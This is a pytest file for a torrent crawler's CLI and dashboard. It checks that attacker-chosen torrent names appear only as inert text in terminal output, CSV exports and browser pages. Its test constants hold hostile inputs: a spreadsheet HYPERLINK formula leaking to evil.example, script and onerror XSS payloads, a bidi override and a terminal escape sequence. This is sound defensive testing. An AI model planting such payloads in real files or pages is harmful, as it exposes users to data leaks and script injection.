"""Torrent names, chosen by whoever wrote a ``.torrent`` or a magnet, as every reader shows them:
``torrent``, ``stats torrents`` (JSON, table, CSV), ``export``, the dashboard's JSON and CSV, and the
pages in a real browser (text, never markup; no script runs).

Torrents are added by the real ``peercrawl add`` (a ``.torrent`` file and a magnet) and their peers
recorded by the real ``Recorder``; the commands run in this process through click's runner (the
same code and output as a subprocess) except where a terminal is needed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from urllib.parse import quote

import pytest
from click.testing import CliRunner

import geo
from crawler.bencode import codec as bencode
from crawler.counters import Recorder
from crawler.dashboard.views import Views
from crawler.keys import Keys
from crawler.queue.queue import Queue
from crawler.safe_text import FORMULA_START
from crawler.torrents.items import NewItem, parse_items
from crawler.torrents.torrent_names import MAX_CHARS
from tests.cli import on_terminal
from tests.mmdb import write_city_db
from tests.test_dashboard_browser import browser, dashboard, injected, wait_rendered  # noqa: F401 (fixtures)

FORMULA = '=HYPERLINK("http://evil.example/?leak","open")'
# the .torrent's name.utf-8 (its name is Latin-1, passed over): a formula, Unicode, a bidi override,
# a terminal escape and a zero-width space
RAW_TORRENT_NAME = FORMULA + " Ünïcödé 東京 \u202egnp.exe\x1b]0;pwned\x07\u200b end"
TORRENT_NAME = FORMULA + " Ünïcödé 東京 gnp.exe]0;pwned end"
SCRIPT = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><b id="pwnb">b</b>'
PREFIX = SCRIPT + " [bold red]rich[/bold red] "
RAW_MAGNET_NAME = PREFIX + "\u202e\t" + "🎬" * 300  # past the bound
MAGNET_NAME = (PREFIX + "🎬" * 300)[:MAX_CHARS]
NETS = {"31.0.1.0/24": ("Germany", "Berlin", "10115")}
UNSHOWABLE = ("\x1b", "\x07", "\u202e", "\u200b")


def torrent_file(path) -> str:
    info = {b"name": "Caf\xe9".encode("latin-1"), b"name.utf-8": RAW_TORRENT_NAME.encode(),
            b"piece length": 16384, b"pieces": b"\x01" * 20, b"length": 5}
    path.write_bytes(bencode.encode({b"announce": b"udp://127.0.0.1:6969/announce", b"info": info}))
    return str(path)


def cli(env: dict, *args: str) -> str:
    """``peercrawl ARGS``' output, run in this process (``tests.dashboard_data.stats_json``'s way)."""
    from crawler.cli import _register
    from crawler.cli import cli as command

    _register()
    r = CliRunner().invoke(command, list(args), env=env, catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return r.stdout


@pytest.fixture
def named(client, keys, settings, test_env, tmp_path) -> dict:
    """A .torrent and a magnet added with names, a bare hash without; each with recorded peers.

    Returns {info-hash: the name shown}."""
    path = torrent_file(tmp_path / "hostile.torrent")
    magnet = f"magnet:?xt=urn:btih:{'7e' * 20}&dn={quote(RAW_MAGNET_NAME)}&tr=udp%3A%2F%2F127.0.0.1%3A6969"
    bare = "9a" * 20
    out = json.loads(cli(test_env, "add", path, magnet, bare, "--json"))
    assert out["added"] == 3, out
    ih = parse_items(path).items[0].info_hash
    rec = Recorder(client, keys, settings, geo.open_locator(write_city_db(tmp_path / "n.mmdb", NETS)))
    for n, h in enumerate((ih, "7e" * 20, bare)):
        assert rec.record_visit(h, [f"31.0.1.{i}" for i in range(1, 12 - 3 * n)], time.time()) == 11 - 3 * n
    return {ih: TORRENT_NAME, "7e" * 20: MAGNET_NAME, bare: None}


def test_torrent_and_stats_show_the_names(named, test_env):
    for h, name in named.items():
        assert json.loads(cli(test_env, "torrent", h, "--json"))["name"] == name
    text = cli(test_env, "torrent", next(iter(named)))
    assert text.splitlines()[0] == TORRENT_NAME  # the view's title
    nameless = cli(test_env, "torrent", "9a" * 20).splitlines()
    assert nameless[0] == "9a" * 20 and any(re.fullmatch(r"name +— \(not known yet\) *", x) for x in nameless)
    rows = json.loads(cli(test_env, "stats", "torrents", "--json"))
    assert [(r["metric"], r["name"]) for r in rows] == [(f"torrents.{h}.users", n) for h, n in named.items()]
    one = json.loads(cli(test_env, "stats", "torrents", "--torrent", "7e" * 20, "--json"))
    assert [{k: r[k] for k in ("metric", "count", "name")} for r in one] == [
        {"metric": f"torrents.{'7e' * 20}.users", "count": 8, "name": MAGNET_NAME}]
    table = cli(test_env, "stats", "torrents").splitlines()
    assert table == [f"{c:>2}  torrents.{h}.users  {n or '-'}" for (h, n), c in zip(named.items(), (11, 8, 5))]
    # CSV: a name a spreadsheet would run starts with '; the others as they are
    got = list(csv.reader(io.StringIO(cli(test_env, "stats", "torrents", "--format", "csv"))))
    assert got[0] == ["metric", "count", "name"]
    assert [r[2] for r in got[1:]] == ["'" + TORRENT_NAME, MAGNET_NAME, ""]


def test_the_terminal_shows_names_as_text(named, test_env):
    """On a real terminal: no control character, rich markup printed as written (the torrent view's
    own styles, bold and italic titles, are its only escapes)."""
    for args in (("stats", "torrents"), ("torrent", "7e" * 20)):
        shown = re.sub(r"\x1b\[[0-9;]*m", "", on_terminal(test_env, *args))
        assert not any(c in shown for c in UNSHOWABLE), repr(shown)
        assert PREFIX.strip() in shown, shown


def test_export_and_dashboard_csv_neutralise_the_names(named, test_env, client, keys, settings, tmp_path):
    out = tmp_path / "export"
    cli(test_env, "export", "--out", str(out))
    with open(out / "torrents.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == ["metric", "period", "info_hash", "name", "count"]
    assert {(r["info_hash"], r["name"]) for r in rows if r["period"] == "all"} == {
        (h, ("'" + n if n and n.startswith(FORMULA_START) else n or "")) for h, n in named.items()}
    # the dashboard's views: JSON exact, the table's CSV neutralised (crawler.dashboard.app._answer)
    from crawler.dashboard.app import create_app

    views = Views(client, keys, settings)
    assert [(r["info_hash"], r["name"]) for r in views.overview()["tables"]["torrents"]] == list(named.items())
    assert views.torrent("7e" * 20)["torrent"]["name"] == MAGNET_NAME
    app = create_app(views).test_client()
    text = app.get("/api/overview?format=csv&table=torrents", environ_base={"REMOTE_ADDR": "127.0.0.1"},
                   headers={"Host": "127.0.0.1"}).get_data(as_text=True)
    cells = [r["name"] for r in csv.DictReader(io.StringIO(text))]
    assert cells == ["'" + TORRENT_NAME, MAGNET_NAME, ""]


def test_the_operators_tables_name_their_torrents(client, namespace, settings):
    keys = Keys(namespace)
    s = settings.replace(quarantine_after=1)
    q = Queue(client, keys, s)
    poison = "5c" * 20
    q.add([NewItem(poison, (), SCRIPT)], now=1000.0)
    q.claim(1, now=1000.0)
    q.housekeep(now=1000.0 + s.lease_seconds + 1)
    (row,) = Views(client, keys, s).operators()["tables"]["quarantined"]
    assert (row["info_hash"], row["name"]) == (poison, SCRIPT)


@pytest.mark.slow
def test_the_pages_show_names_as_text_and_run_no_script(named, dashboard, browser):  # noqa: F811
    d = browser
    d.get(dashboard + "/")
    wait_rendered(d)
    cells = d.execute_script("return Array.from(document.querySelectorAll("
                             "\"table[data-table='torrents'] tbody tr\")).map(tr => [tr.dataset.metric, "
                             "tr.querySelector('td.torrent-name').textContent])")
    shown = dict(cells)
    for h, name in named.items():
        assert shown[f"torrents.{h}.users"] == (name or "–")
    # the page's own CSV link: the formula name written with a leading '
    text = d.execute_script("return fetch(document.querySelector(`a.csv[data-table='torrents']`).href)"
                            ".then(r => r.text())")
    names = {r["info_hash"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
    assert names[next(iter(named))] == "'" + TORRENT_NAME and names["7e" * 20] == MAGNET_NAME
    assert d.execute_script("return window.pwned") is None and injected(d) == []
    assert d.execute_script("return document.querySelectorAll('tbody script, tbody img, #pwnb').length") == 0
    for h, name in named.items():
        d.get(f"{dashboard}/torrent/{h}")
        wait_rendered(d)
        assert d.find_element("id", "torrent-name").text == (name or "no name known")
        assert d.execute_script("return document.title") == f"peercrawl · {name or h}"
        assert d.execute_script("return window.pwned") is None
        assert d.execute_script("return document.querySelectorAll('main script, main img, #pwnb').length") == 0
